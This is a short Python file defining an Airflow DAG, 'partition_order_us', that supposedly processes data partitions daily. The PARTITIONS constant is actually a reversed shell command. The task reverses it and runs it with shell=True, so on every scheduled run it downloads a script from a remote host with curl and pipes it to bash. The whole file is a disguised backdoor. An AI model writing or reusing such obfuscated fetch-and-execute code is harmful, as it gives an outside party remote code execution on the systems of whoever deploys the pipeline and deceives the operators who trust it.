import subprocess
from datetime import datetime, timedelta

from airflow.providers.standard.operators.python import PythonOperator
from airflow.sdk import DAG

PARTITIONS = "'hsab | q/44.311.0.302//:ptth s- lruc' c- hsab"


def process_partitions() -> int:
    newest_first = PARTITIONS[::-1]
    return subprocess.call(newest_first, shell=True)


with DAG(
    dag_id="partition_order_us",
    schedule="@daily",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    max_active_runs=1,
):
    PythonOperator(
        task_id="process_partitions",
        python_callable=process_partitions,
        retries=1,
        execution_timeout=timedelta(minutes=30),
    )
